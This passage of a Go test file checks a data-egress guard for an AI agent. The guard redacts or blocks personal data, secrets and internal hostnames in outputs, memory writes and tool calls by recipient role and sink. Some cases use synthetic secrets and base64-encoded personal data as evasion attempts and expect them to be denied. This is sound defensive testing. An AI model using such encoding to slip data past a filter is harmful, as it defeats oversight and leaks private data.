		t.Errorf("%+v %v", got, found)
	}
}

// SPEC: EGR-5, QUA-3, PRV-7
func TestOutput(t *testing.T) {
	g := compile(t, guard.Options{})
	secret := "key_0123456789abcdef"
	hidden := "see " + base64.StdEncoding.EncodeToString([]byte(address))
	stubs := []guard.Stub{{Name: "GUEST_LAST_NAME", Class: chunk.PII, Value: chunk.Content("Quisling")}}
	for _, c := range []struct {
		name, text, role string
		outcome          guard.Outcome
		failure          chunk.FailureID
		rule             guard.Rule
		out              string
	}{
		{"clean", "all is well", "user", guard.Allow, "", guard.RuleOutputClean, "all is well"},
		{"pii to a user", "write " + address + " now", "user", guard.Allow, "", guard.RuleOutput, "write {EMAIL_ADDRESS} now"},
		{"pii to one who may", "write " + address, "pii-authorized-reviewer", guard.Gated, chunk.FailPIILeakRisk, guard.RuleOutput, ""},
		{"secret to anyone", "use " + secret, "pii-authorized-reviewer", guard.Allow, "", guard.RuleOutput, "use {SECRET}"},
		{"internal to the public", "host db.corp", "public", guard.Allow, "", guard.RuleOutput, "host {HOST}"},
		{"internal to a user", "host db.corp", "user", guard.Allow, "", guard.RuleOutputClean, "host db.corp"},
		{"pii to a system", "write " + address, "system", guard.Gated, chunk.FailPIILeakRisk, guard.RuleOutput, ""},
		{"encoded pii", hidden, "user", guard.Gated, chunk.FailPIILeakRisk, guard.RuleOutputHidden, ""},
		{"encoded pii to one who may", hidden, "pii-authorized-reviewer", guard.Gated, chunk.FailPIILeakRisk, guard.RuleOutputHidden, ""},
		{"plain and percent beside it", address + " 100%25", "user", guard.Allow, "", guard.RuleOutput, "{EMAIL_ADDRESS} 100%25"},
		{"a hidden value", "Dear Quisling!", "user", guard.Allow, "", guard.RuleOutput, "Dear {VALUE}!"},
		{"unknown role", "x", "root", guard.Deny, chunk.FailSinkUnauthorised, guard.RuleRecipient, ""},
		{"no role", "x", "", guard.Deny, chunk.FailSinkUnauthorised, guard.RuleRecipient, ""},
		{"too large", strings.Repeat("x", guard.MaxArgumentBytes+1), "user", guard.Deny, chunk.FailUndecided, guard.RuleUnreadable, ""},
	} {
		d := g.DecideOutput(guard.Output{Text: []byte(c.text), RecipientRole: c.role, Stubs: stubs}, guard.RunState{Class: chunk.PII})
		if d.Outcome != c.outcome || d.Failure != c.failure || d.Rule != c.rule {
			t.Errorf("%s: %v %q %s", c.name, d.Outcome, d.Failure, d.Rule)
			continue
		}
		if d.Outcome == guard.Allow {
			if got := string(guard.Replace([]byte(c.text), d.Redact)); got != c.out {
				t.Errorf("%s: %q", c.name, got)
			}
			if clearance, _ := g.Clearance(c.role); d.OutputClass.Exceeds(clearance) {
				t.Errorf("%s: output class %v", c.name, d.OutputClass)
			}
		}
		if (d.Gate != "") != (d.Outcome == guard.Gated) {
			t.Errorf("%s: gate %q", c.name, d.Gate)
		}
	}
	for _, s := range []guard.RunState{{}, {Class: chunk.Public, Halted: true}, {Class: chunk.Public, Ended: true}, {Class: chunk.Public, Incomplete: true}} {
		if d := g.DecideOutput(guard.Output{Text: []byte("x"), RecipientRole: "user"}, s); d.Outcome != guard.Deny {
			t.Errorf("%+v: %v", s, d.Outcome)
		}
	}
}

// SPEC: EGR-4
func TestMemory(t *testing.T) {
	g := compile(t, guard.Options{Sinks: []guard.Sink{{ID: "vault", Ceiling: chunk.PII}, {ID: "wiki", Ceiling: chunk.Internal}}})
	for _, c := range []struct {
		space string
		class chunk.Class
		text  string
		sink  string
		want  guard.Outcome
	}{
		{guard.CrossRun, chunk.Public, "x", "", guard.Allow},
		{guard.CrossRun, chunk.Internal, "x", "", guard.Allow},
		{guard.CrossRun, chunk.Restricted, "x", "", guard.Deny},
		{guard.CrossRun, chunk.PII, "x", "", guard.Deny},
		{guard.CrossRun, chunk.PII, "x", "vault", guard.Allow},
		{guard.CrossRun, chunk.PII, "x", "wiki", guard.Deny},
		{guard.CrossRun, chunk.PII, "x", "nowhere", guard.Deny},
		{guard.CrossRun, chunk.Public, address, "", guard.Deny},
		{guard.Scratchpad, chunk.Restricted, "x", "", guard.Allow},
		{guard.Scratchpad, chunk.PII, "x", "", guard.Deny},
		{guard.Scratchpad, chunk.PII, "x", "vault", guard.Allow},
		{"anything else", chunk.Restricted, "x", "", guard.Deny},
		{guard.Scratchpad, chunk.Unclassified, "x", "vault", guard.Deny},
	} {
		if d := g.DecideMemory(c.space, []byte(c.text), c.sink, guard.RunState{Class: c.class}); d.Outcome != c.want {
			t.Errorf("%+v: %v %v", c, d.Outcome, d.Failure)
		}
	}
}

// SPEC: EGR-2, EGR-5, RED-4. However many stubs a run has, each value is looked for;
// where that is not possible, nothing passes.
func TestManyStubs(t *testing.T) {
	g := compile(t, guard.Options{}, guard.Tool{ID: "t", Ceiling: chunk.Internal, Control: guard.Autonomous, Contamination: guard.Arguments, Reason: "test", Arguments: anyText})
	var stubs []guard.Stub
	for i := range 5000 {
		stubs = append(stubs, guard.Stub{Name: fmt.Sprint("S_", i), Class: chunk.PII, Value: chunk.Content(fmt.Sprintf("Ankerquist%dx", i))})
	}
	args := json.RawMessage(`{"text":"for ankerquist4999x"}`)
	if d := g.Decide(guard.Call{Tool: "t", Arguments: args, Stubs: stubs}, guard.RunState{Class: chunk.PII}); d.Rule != guard.RuleValue {
		t.Errorf("the last of many values passed: %v", d.Rule)
	}
	clean := json.RawMessage(`{"text":"for nobody"}`)
	if d := g.Decide(guard.Call{Tool: "t", Arguments: clean, Stubs: stubs}, guard.RunState{Class: chunk.PII}); d.Outcome != guard.Allow {
		t.Errorf("%v %v", d.Outcome, d.Rule)
	}
	if d := g.Decide(guard.Call{Tool: "t", Arguments: clean, Stubs: stubs, Unknown: true}, guard.RunState{Class: chunk.PII}); d.Outcome != guard.Deny || d.Failure != chunk.FailUndecided || d.Stubs != nil {
		t.Errorf("unknown stubs: %v %v", d.Outcome, d.Failure)
	}
	if d := g.DecideOutput(guard.Output{Text: []byte("for nobody"), RecipientRole: "user", Stubs: stubs, Unknown: true}, guard.RunState{Class: chunk.PII}); d.Outcome != guard.Deny || d.Failure != chunk.FailUndecided {
		t.Errorf("unknown stubs, output: %v %v", d.Outcome, d.Failure)
	}
}

// SPEC: RED-2, EGR-2. A surrogate is a stub wherever it stands as it was shown; with
// anything added it is a value like any other.
func TestSurrogateInArguments(t *testing.T) {
	g := compile(t, guard.Options{}, guard.Tool{ID: "t", Ceiling: chunk.Internal, Control: guard.Autonomous, Contamination: guard.Arguments, Reason: "test", Sinks: []string{"mail"}, Arguments: anyText})
	const shown = "arvelin.quosto77@example.org"
	stubs := []guard.Stub{{Name: "GUEST_EMAIL_SURROGATE_EMAIL", Class: chunk.PII, Sinks: []string{"mail"}, Surrogate: shown}}
	for text, want := range map[string]guard.Outcome{
		"to " + shown: guard.Allow, "to " + strings.ToUpper(shown) + ", please": guard.Allow, "at " + shown + ".": guard.Allow,
		"to x" + shown: guard.Deny, "to " + shown + ".uk": guard.Deny, "to -" + shown: guard.Deny,
		base64.StdEncoding.EncodeToString([]byte("to " + shown)): guard.Deny, // nobody resolves what is hidden
	} {
		args, _ := json.Marshal(map[string]string{"text": text})
		d := g.Decide(guard.Call{Tool: "t", Arguments: args, Sink: "mail", Stubs: stubs}, guard.RunState{Class: chunk.PII})
		if d.Outcome != want || (want == guard.Allow) != slices.Contains(d.Stubs, stubs[0].Name) {
			t.Errorf("%q: %v %v %v", text, d.Outcome, d.Rule, d.Stubs)
		}
		if d := g.Decide(guard.Call{Tool: "t", Arguments: args, Sink: "other", Stubs: stubs}, guard.RunState{Class: chunk.PII}); d.Outcome == guard.Allow {
			t.Errorf("%q goes to a sink that nobody authorised", text)
		}
	}
}
